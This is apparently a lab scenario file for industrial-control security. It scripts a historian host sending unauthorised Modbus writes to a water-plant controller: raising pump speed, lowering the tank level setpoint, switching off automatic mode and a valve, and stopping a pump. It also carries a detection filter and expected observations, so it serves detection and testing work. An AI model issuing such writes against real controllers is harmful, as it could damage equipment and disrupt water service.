"""A station that only ever reads writes: the archive, in an attacker's hands, drives the circulation pumps too fast.

ATT&CK for ICS: T0855 unauthorized command message, T0836 modify parameter, T0831 manipulation of control.
Attack frames: every frame of the Modbus session that the archive opens beside its own. It reads the registers twice, to
learn them, then writes the speed setpoint in three steps (function 6), the tank's level (function 16), closes the
make-up valve by hand (functions 5) and stops pump 1 (function 5). The functions 5, 6 and 16 are the commands.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from lab.clients.sessions import modbus
from lab.plant import address
from lab.scenario import Scenario

if TYPE_CHECKING:
    from lab.clock import Clock

LEVEL, SPEED = 1, 8
PUMP_1, VALVE, AUTOMATIC = 0, 2, 3


def attack(clock: Clock) -> None:
    """Learn, then write."""
    with modbus("plc-water") as client:
        for _ in range(2):
            client.read_holding_registers(0, count=20, device_id=1)
            clock.sleep(4.0)
        for speed in (1350, 1480, 1640):
            client.write_register(SPEED, speed, device_id=1)
            clock.sleep(5.0)
            client.read_holding_registers(SPEED, count=1, device_id=1)
        client.write_registers(LEVEL, [1500], device_id=1)
        clock.sleep(2.0)
        client.write_coil(AUTOMATIC, False, device_id=1)
        client.write_coil(VALVE, False, device_id=1)
        clock.sleep(6.0)
        client.write_coil(PUMP_1, False, device_id=1)
        clock.sleep(3.0)


SCENARIO = Scenario(
    name="unauthorised-write",
    title="The archive writes to the water controller",
    length=150.0,
    techniques=("T0855", "T0836", "T0831"),
    attacker="historian",
    victims=("plc-water",),
    begin=75.0,
    behind=2580,
    commands=f"ip.src == {address('historian')} && modbus.func_code in {{5, 6, 16}}",
    attack=attack,
    seen="""\
- `10.21.30.33` (historian), which only reads, opens a second Modbus session to `10.21.10.11` and writes.
- Speed setpoint (holding register 8) 1350, 1480, 1640 rpm where the operator stays between 1160 and 1210.
- Level setpoint (register 1) 15 % instead of about 62 %; coils 3 (automatic), 2 (valve) and 0 (pump 1) switched off.
- Afterwards the registers polled by everybody show it: speeds, flow and pressure change, the level falls.
- The panel's own write of register 8, some 18 seconds after the start, is normal and no part of it.""",
)
